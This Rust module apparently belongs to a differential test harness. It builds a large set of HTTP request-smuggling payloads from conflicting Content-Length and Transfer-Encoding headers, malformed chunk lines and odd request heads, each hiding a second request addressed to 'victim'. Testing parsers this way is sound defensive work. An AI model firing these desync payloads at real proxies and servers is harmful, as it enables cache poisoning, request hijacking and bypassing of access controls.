//! Payloads that two readers may end at different places: every spelling of a length with every
//! spelling of chunks, over bodies that hide a request, and single oddities.

/// One client's bytes.
pub(super) struct Payload {
    /// In the paths of all its requests: `/report/ID/outer`.
    pub(super) id: String,
    pub(super) bytes: Vec<u8>,
}

impl Payload {
    pub(super) fn shown(&self) -> String {
        String::from_utf8_lossy(&self.bytes).into_owned()
    }
}

/// An honest request.
pub(super) fn good(id: &str) -> Vec<u8> {
    let text =
        format!("GET /report/{id}/outer HTTP/1.1\r\nhost: victim\r\nconnection: close\r\n\r\n");
    text.into_bytes()
}

/// How a payload's parts are put together. `N` stands for the body's length, `ID` for its id, `~` for
/// nothing.
struct Parts {
    version: &'static str,
    length: &'static str,
    chunks: &'static str,
    body: Body,
    chunks_first: bool,
    line_end: &'static str,
}

#[derive(Clone, Copy)]
enum Body {
    /// The last chunk, then the hidden request: hidden from who counts bytes.
    AfterLastChunk,
    /// The hidden request in a chunk: hidden from who reads chunks.
    InChunk,
    /// Bytes that are no chunks.
    Plain,
    /// Chunks with this size line, instead of the plain hexadecimal.
    Size(&'static str),
    /// After the last chunk, instead of an empty line.
    End(&'static str),
}

const VERSIONS: [&str; 2] = ["1.1", "1.0"];

const LENGTHS: [&str; 20] = [
    "~",
    "content-length: N",
    "content-length: 5",
    "content-length: 0",
    "content-length: N\r\ncontent-length: N",
    "content-length: N\r\ncontent-length: 5",
    "content-length: 5\r\ncontent-length: N",
    "content-length: N, N",
    "content-length: 5, N",
    "content-length: +N",
    "content-length: -5",
    "content-length: 0N",
    "content-length: 0xN",
    "content-length: N;x",
    "content-length:\tN\t",
    "content-length : N",
    "content-length:\r\n N",
    "content_length: N",
    "content-length: N\u{b}",
    "content-length: 18446744073709551620",
];

const CHUNKS: [&str; 24] = [
    "~",
    "transfer-encoding: chunked",
    "Transfer-Encoding:\tChunked ",
    "transfer-encoding : chunked",
    "transfer-encoding: xchunked",
    "transfer-encoding: chunked, identity",
    "transfer-encoding: identity, chunked",
    "transfer-encoding: gzip, chunked",
    "transfer-encoding: chunked, chunked",
    "transfer-encoding: chunked;q=1",
    "transfer-encoding: ,chunked",
    "transfer-encoding: chunked,",
    "transfer-encoding: \"chunked\"",
    "transfer-encoding: chunked\r\ntransfer-encoding: identity",
    "transfer-encoding: identity\r\ntransfer-encoding: chunked",
    "transfer-encoding: chunked\r\ntransfer-encoding: chunked",
    "transfer-encoding:\r\n chunked",
    " transfer-encoding: chunked",
    "x: y\r\n transfer-encoding: chunked",
    "x: y\rtransfer-encoding: chunked",
    "x: y\ntransfer-encoding: chunked",
    "transfer_encoding: chunked",
    "transfer-encoding: chunked\u{b}",
    "transfer-encoding: chunked\0",
];

const BODIES: [Body; 3] = [Body::AfterLastChunk, Body::InChunk, Body::Plain];

/// Size lines of a chunk; `S` is the size in hexadecimal.
const SIZES: [&str; 20] = [
    "S",
    "0S",
    "00000000000000000000S",
    "0xS",
    "+S",
    "-S",
    " S",
    "S ",
    "S\t",
    "S;a=b",
    "S;a=\"b\"",
    "S ; a",
    "S;a\nb",
    "S;a\rb",
    "S\n",
    "S 0",
    "S,",
    "S;",
    "",
    "ffffffffffffffffS",
];

const ENDS: [&str; 9] = [
    "\r\n",
    "\n",
    "\n\n",
    "x: y\r\n\r\n",
    "x: y\n\n",
    "content-length: 9\r\n\r\n",
    "nonsense\r\n\r\n",
    " folded: y\r\n\r\n",
    "\0\r\n",
];

/// Whole heads that are odd in themselves.
const HEADS: [&str; 30] = [
    "GET /report/ID/outer\r\n",
    "GET /report/ID/outer HTTP/0.9\r\n",
    "GET /report/ID/outer HTTP/1.2\r\nhost: victim\r\n",
    "GET /report/ID/outer HTTP/2.0\r\nhost: victim\r\n",
    "GET  /report/ID/outer HTTP/1.1\r\nhost: victim\r\n",
    "GET /report/ID/outer HTTP/1.1 \r\nhost: victim\r\n",
    "get /report/ID/outer HTTP/1.1\r\nhost: victim\r\n",
    "\r\n\r\nGET /report/ID/outer HTTP/1.1\r\nhost: victim\r\n",
    "\nGET /report/ID/outer HTTP/1.1\nhost: victim\n",
    "GET http://victim/report/ID/outer HTTP/1.1\r\nhost: other\r\n",
    "GET http://victim/report/ID/outer HTTP/1.1\r\n",
    "GET /report/ID/outer HTTP/1.1\r\nhost: victim\r\nhost: other\r\n",
    "GET /report/ID/outer HTTP/1.1\r\nhost: victim, other\r\n",
    "GET /report/ID/outer HTTP/1.1\r\n",
    "GET /report/ID/outer HTTP/1.0\r\n",
    "GET /report/ID/outer HTTP/1.0\r\nconnection: keep-alive\r\n",
    "GET /report/ID/outer HTTP/1.1\r\nhost: victim\r\nconnection: content-length\r\ncontent-length: 5\r\n",
    "GET /report/ID/outer HTTP/1.1\r\nhost: victim\r\nconnection: transfer-encoding\r\ntransfer-encoding: chunked\r\n",
    "GET /report/ID/outer HTTP/1.1\r\nhost: victim\r\nconnection: upgrade\r\nupgrade: h2c\r\n",
    "GET /report/ID/outer HTTP/1.1\r\nhost: victim\r\nexpect: 100-continue\r\ncontent-length: 5\r\n",
    "GET /report/ID/outer HTTP/1.1\r\nhost: victim\r\nexpect: nonsense\r\ncontent-length: 5\r\n",
    "HEAD /report/ID/outer HTTP/1.1\r\nhost: victim\r\ncontent-length: 5\r\n",
    "OPTIONS * HTTP/1.1\r\nhost: victim\r\n",
    "CONNECT victim:80 HTTP/1.1\r\nhost: victim\r\n",
    "TRACE /report/ID/outer HTTP/1.1\r\nhost: victim\r\nmax-forwards: 0\r\n",
    "GET /report/ID/outer?x=%0d%0ax:%20y HTTP/1.1\r\nhost: victim\r\n",
    "GET /report/ID/outer#frag HTTP/1.1\r\nhost: victim\r\n",
    "GET /report/ID/outer HTTP/1.1\r\nhost: victim\r\nx\r\n",
    "GET /report/ID/outer HTTP/1.1\r\nhost: victim\r\nx: a\0b\r\n",
    "GET /report/ID/outer HTTP/1.1\r\nhost: victim\r\nx: a\rb\r\n",
];

/// All of them.
pub(super) fn payloads() -> Vec<Payload> {
    let mut all = Vec::new();
    let mut add = |make: &dyn Fn(&str) -> Vec<u8>| {
        let id = format!("p{}", all.len());
        let bytes = make(&id);
        all.push(Payload { id, bytes });
    };
    for length in LENGTHS {
        for chunks in CHUNKS {
            for body in BODIES {
                // The other sides of the question take turns: each meets each of these.
                let turn = length.len() + chunks.len();
                let parts = Parts {
                    version: VERSIONS[usize::from(turn.is_multiple_of(7))],
                    length,
                    chunks,
                    body,
                    chunks_first: turn.is_multiple_of(2),
                    line_end: if turn.is_multiple_of(5) { "\n" } else { "\r\n" },
                };
                add(&|id| parts.bytes(id));
            }
        }
    }
    let bodies = SIZES.map(Body::Size).into_iter().chain(ENDS.map(Body::End));
    for body in bodies {
        for version in VERSIONS {
            for length in ["~", "content-length: N", "content-length: 5"] {
                let parts = Parts {
                    version,
                    length,
                    chunks: "transfer-encoding: chunked",
                    body,
                    chunks_first: false,
                    line_end: "\r\n",
                };
                add(&|id| parts.bytes(id));
            }
        }
    }
    for head in HEADS {
        add(&|id| {
            let head = head.replace("ID", id);
            format!("{head}\r\n{}{}", hidden(id), behind(id)).into_bytes()
        });
    }
    all
}

/// A request in what one of the two may take for a body.
fn hidden(id: &str) -> String {
    format!("GET /report/{id}/hidden HTTP/1.1\r\nhost: victim\r\n\r\n")
}

/// A request behind all.
fn behind(id: &str) -> String {
    format!("GET /report/{id}/behind HTTP/1.1\r\nhost: victim\r\nconnection: close\r\n\r\n")
}

impl Parts {
    fn bytes(&self, id: &str) -> Vec<u8> {
        let hidden = hidden(id);
        let size = format!("{:x}", hidden.len());
        let body = match self.body {
            Body::AfterLastChunk => format!("0\r\n\r\n{hidden}"),
            Body::InChunk => format!("{size}\r\n{hidden}\r\n0\r\n\r\n"),
            Body::Plain => hidden,
            Body::Size(line) => {
                let line = line.replace('S', &size);
                format!("{line}\r\n{hidden}\r\n0\r\n\r\n")
            }
            Body::End(end) => format!("5\r\nhello\r\n0\r\n{end}{hidden}"),
        };
        let length = body.len().to_string();
        let mut fields = [self.length, self.chunks];
        if self.chunks_first {
            fields.reverse();
        }
        let mut head = format!(
            "POST /report/{id}/outer HTTP/{}\r\nhost: victim\r\n",
            self.version
        );
        for field in fields.iter().filter(|field| **field != "~") {
            head.push_str(&field.replace('N', &length));
            head.push_str("\r\n");
        }
        head.push_str("\r\n");
        let head = head.replace("\r\n", self.line_end);
        format!("{head}{body}{}", behind(id)).into_bytes()
    }
}
